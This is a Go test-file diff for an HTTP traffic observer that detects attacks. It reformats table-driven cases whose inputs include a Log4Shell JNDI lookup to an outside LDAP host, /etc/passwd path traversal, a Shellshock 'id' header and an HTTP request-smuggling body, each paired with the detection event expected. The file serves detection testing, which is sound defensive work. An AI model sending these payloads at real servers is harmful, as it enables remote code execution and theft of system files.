@@ -66,10 +66,16 @@ func TestHTTPObserver(t *testing.T) {
 		{"interim answers", []piece{
 			ask("GET / HTTP/1.1\r\nAuthorization: Basic am9uOnMzY3JldA==", ""), server([]byte("HTTP/1.1 100 Continue\r\n\r\n")), reply("401 No", ""),
 		}, []string{`login-seen 10.20.1.5 "http" "basic" failed`}},
-		{"form", []piece{ask("POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded", "user=jon&password=x"), reply("302 Found", "")},
-			[]string{`login-seen 10.20.1.5 "http" "form" unknown`}},
-		{"log4shell in a form", []piece{ask("POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded", "uname=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%7D&password="), reply(ok, "")},
-			[]string{`exploit-seen 10.20.1.5 "http" "JNDI lookup in a logged string" "CVE-2021-44228"`}},
+		{
+			"form",
+			[]piece{ask("POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded", "user=jon&password=x"), reply("302 Found", "")},
+			[]string{`login-seen 10.20.1.5 "http" "form" unknown`},
+		},
+		{
+			"log4shell in a form",
+			[]piece{ask("POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded", "uname=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%7D&password="), reply(ok, "")},
+			[]string{`exploit-seen 10.20.1.5 "http" "JNDI lookup in a logged string" "CVE-2021-44228"`},
+		},
 		{"the same attack twice, and another", []piece{
 			ask("GET /../../etc/passwd HTTP/1.1", ""), ask("GET /../../etc/passwd HTTP/1.1", ""), ask("GET / HTTP/1.1\r\nUser-Agent: () { :;}; id", ""),
 		}, []string{`exploit-seen 10.20.1.5 "http" "path traversal"`, `exploit-seen 10.20.1.5 "http" "shell function in a header field" "CVE-2014-6271"`}},
@@ -77,14 +83,20 @@ func TestHTTPObserver(t *testing.T) {
 			ask("GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1)", ""), reply(ok+"\r\nServer: Microsoft-IIS/6.0", ""),
 			ask("GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1)", ""), reply(ok+"\r\nServer: Microsoft-IIS/6.0", ""),
 		}, []string{`identity-seen 10.20.1.5 "Windows 7"`, `identity-seen 10.20.3.10 "Windows Server 2003"`}},
-		{"smuggling", []piece{client([]byte("POST / HTTP/1.1\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n"))},
-			[]string{`malformed-seen 10.20.1.5 "http" "message body length" "two servers may disagree about it"`}},
+		{
+			"smuggling",
+			[]piece{client([]byte("POST / HTTP/1.1\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n"))},
+			[]string{`malformed-seen 10.20.1.5 "http" "message body length" "two servers may disagree about it"`},
+		},
 		{"not http any more", []piece{ask("GET / HTTP/1.1", ""), client([]byte("\x00\x01\x02\x03"))}, []string{`malformed-seen 10.20.1.5 "http" "start-line" "invalid value"`}},
 		{"a bad chunk", []piece{ask("GET / HTTP/1.1", ""), server([]byte("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"))}, []string{`malformed-seen 10.20.3.10 "http" "chunk-size" "invalid value"`}},
 		{"http/2", []piece{client([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04"))}, []string{`protocol-seen 10.20.1.5 "http" "2"`}},
 		{"websocket", []piece{ask("GET / HTTP/1.1\r\nUpgrade: websocket", ""), server([]byte("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x05hello")), client([]byte("GET /../../etc/passwd HTTP/1.1\r\n\r\n"))}, nil},
-		{"hl7", []piece{ask("POST /hl7 HTTP/1.1\r\nContent-Type: application/hl7-v2", "MSH|^~\\&|CASTOR|ADA|X|Y|20260303070000||ADT^A01^ADT_A01|7|P|2.6\rPID|||ADA-000117||Lindqvist^Anna\r"), reply(ok, "")},
-			[]string{`protocol-seen 10.20.1.5 "hl7"`, `patient-data-seen 10.20.1.5 "hl7" "ADT"`}},
+		{
+			"hl7",
+			[]piece{ask("POST /hl7 HTTP/1.1\r\nContent-Type: application/hl7-v2", "MSH|^~\\&|CASTOR|ADA|X|Y|20260303070000||ADT^A01^ADT_A01|7|P|2.6\rPID|||ADA-000117||Lindqvist^Anna\r"), reply(ok, "")},
+			[]string{`protocol-seen 10.20.1.5 "hl7"`, `patient-data-seen 10.20.1.5 "hl7" "ADT"`},
+		},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			got := however(t, newHTTPObserver, tt.pieces...)
